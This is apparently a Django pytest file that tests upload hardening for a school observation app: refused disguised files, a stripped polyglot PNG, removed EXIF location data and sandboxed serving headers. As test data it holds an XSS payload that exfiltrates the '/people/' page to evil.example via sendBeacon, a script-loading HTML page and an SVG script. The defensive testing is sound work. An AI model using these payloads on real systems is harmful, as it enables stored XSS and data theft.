"""Observation attachments as a hostile observer would send them (issue 8, finding 1).

Each file goes through the real form over HTTP. A file whose bytes are not one of the offered
kinds is refused with a message naming it; a photo is stored re-encoded (no EXIF, nothing after
the image data); every served file carries nosniff and a sandboxing policy, and only a verified
photo is shown inline. A file stored before these checks (written straight to storage here, as
an old upload would have been) is served as a download.
"""

from __future__ import annotations

import io
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from observe.attachments import LIMITS_TEXT
from observe.models import Observation, ObservationAttachment
from tests.conftest import Cast

SCRIPT = b"fetch('/people/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t));\n"
PAGE = b"<!doctype html><html><body><script src='/observe/attachments/1/'></script></body></html>\n"


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def _png(size: tuple[int, int] = (8, 6), **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format="PNG", **save)
    return out.getvalue()


def _jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (16, 12), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (37.0, 52.0, 0.0)}  # GPS IFD: the classroom's location
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes())
    return out.getvalue()


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _form(cast: Cast, files: list[SimpleUploadedFile]) -> dict[str, Any]:
    return {"client_uuid": str(uuid.uuid4()), "teacher": f"何静（{cast.people['teacher'].code}）",
            "subject": "chinese", "topic": "背影", "date": "2026-11-20", "kind": "push_in", "purpose": "evaluative",
            "strengths": "朗读指导到位", "action": "submit", "attachments": files}


def _upload(cast: Cast, name: str, content: bytes, claimed: str) -> tuple[Client, Any]:
    c = cast.client("vice_principal")
    r = c.post(reverse("observe:new"), _form(cast, [SimpleUploadedFile(name, content, content_type=claimed)]))
    return c, r


@pytest.mark.parametrize(("name", "content", "claimed"), [
    ("板书.png", SCRIPT, "image/png"),             # a script claimed as a photo
    ("板书.js", SCRIPT, "image/png"),
    ("板书.html", PAGE, "image/png"),              # a web page claimed as a photo
    ("课件.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml"),
    ("教案.docx", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "application/vnd.openxmlformats-"
                                                                 "officedocument.wordprocessingml.document"),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120, "image/jpeg"),
    ("教案.pdf", PAGE, "application/pdf"),
])
def test_upload_not_of_an_offered_kind_is_refused(cast: Cast, name: str, content: bytes, claimed: str) -> None:
    _, r = _upload(cast, name, content, claimed)
    body = r.content.decode()
    assert r.status_code == 400
    assert f"附件“{name}”" in body
    # Nothing was kept: not the record, not the file.
    assert not Observation.objects.exists() and not ObservationAttachment.objects.exists()


def test_polyglot_png_is_stored_without_its_tail_and_served_as_an_image(cast: Cast) -> None:
    polyglot = _png() + PAGE + SCRIPT
    c, r = _upload(cast, "板书.png", polyglot, "image/png")
    assert r.status_code == 302
    att = ObservationAttachment.objects.get()
    stored = att.file.read()
    assert b"<script" not in stored and b"fetch(" not in stored and stored.startswith(b"\x89PNG")
    assert att.is_photo and att.size == len(stored)
    resp = c.get(reverse("observe:attachment", args=[att.pk]))
    assert resp.status_code == 200
    assert resp["Content-Type"] == "image/png"
    assert resp["X-Content-Type-Options"] == "nosniff"
    assert resp["Content-Disposition"].startswith("inline")
    assert "sandbox" in resp["Content-Security-Policy"] and "default-src 'none'" in resp["Content-Security-Policy"]
    assert b"<script" not in b"".join(resp.streaming_content)  # type: ignore[attr-defined]  # FileResponse streams


def test_photo_loses_its_exif_location(cast: Cast) -> None:
    original = _jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get(0x8825) is not None
    _, r = _upload(cast, "IMG_2031.JPG", original, "image/jpeg")
    assert r.status_code == 302
    att = ObservationAttachment.objects.get()
    stored = Image.open(att.file)
    assert stored.format == "JPEG" and not stored.getexif() and att.name == "IMG_2031.jpg"


def test_document_is_served_as_a_download_with_the_headers(cast: Cast) -> None:
    c, r = _upload(cast, "教案.docx", _docx(), "application/octet-stream")
    assert r.status_code == 302
    att = ObservationAttachment.objects.get()
    assert not att.is_photo
    resp = c.get(reverse("observe:attachment", args=[att.pk]))
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.wordprocessingml")
    assert resp["Content-Disposition"].startswith("attachment")
    assert resp["X-Content-Type-Options"] == "nosniff" and "sandbox" in resp["Content-Security-Policy"]


@pytest.mark.parametrize(("name", "content"), [("旧附件.html", PAGE), ("旧附件.js", SCRIPT), ("旧附件.png", SCRIPT)])
def test_file_stored_before_the_checks_is_served_as_a_download(
        cast: Cast, rec: Callable[..., Observation], name: str, content: bytes) -> None:
    """An upload kept by the old code (type taken from the claim, is_photo from the claim)."""
    obs = rec("vice_principal", "teacher")
    att = ObservationAttachment(observation=obs, name=name, is_photo=True, size=len(content))
    att.file.save(name, ContentFile(content), save=False)
    att.save()
    resp = cast.client("principal").get(reverse("observe:attachment", args=[att.pk]))
    assert resp.status_code == 200
    assert resp["Content-Type"] == "application/octet-stream"
    assert resp["Content-Disposition"].startswith("attachment")
    assert resp["X-Content-Type-Options"] == "nosniff"
    assert resp["Content-Security-Policy"].startswith("default-src 'none'") and "sandbox" in resp[
        "Content-Security-Policy"]


def test_too_many_files_or_too_large_are_refused_with_the_limit(cast: Cast) -> None:
    c = cast.client("vice_principal")
    files = [SimpleUploadedFile(f"{i}.png", _png(), content_type="image/png") for i in range(11)]
    r = c.post(reverse("observe:new"), _form(cast, files))
    assert r.status_code == 400 and "每次最多上传 10 个文件" in r.content.decode()
    big = SimpleUploadedFile("大.pdf", b"%PDF-1.7\n" + b"0" * (20 * 1024 * 1024), content_type="application/pdf")
    r = c.post(reverse("observe:new"), _form(cast, [big]))
    assert r.status_code == 400 and "不能超过 20 MB" in r.content.decode()
    assert not ObservationAttachment.objects.exists()


def test_form_states_the_upload_limits(cast: Cast) -> None:
    body = cast.client("vice_principal").get(reverse("observe:new")).content.decode()
    assert LIMITS_TEXT in body and "20 MB" in LIMITS_TEXT
    assert 'accept="image/jpeg,image/png' in body and "image/*" not in body
